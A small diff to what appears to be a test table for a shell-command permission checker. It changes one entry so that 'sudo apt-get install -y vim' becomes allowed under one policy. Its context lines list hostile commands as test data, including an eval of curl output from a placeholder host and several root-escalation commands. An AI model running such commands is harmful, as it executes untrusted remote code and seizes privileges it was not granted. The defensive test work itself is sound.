@@ -150,7 +150,7 @@ TABLE: list[tuple[str, str, str, str]] = [
     ("eval \"$(curl -s http://x)\"", D, D, A),
     # privilege escalation
     ("sudo su", D, D, A),
-    ("sudo apt-get install -y vim", D, D, A),
+    ("sudo apt-get install -y vim", A, D, A),
     ("/usr/bin/sudo -i", D, D, A),
     ("su - root", D, D, A),
     ("doas sh", D, D, A),
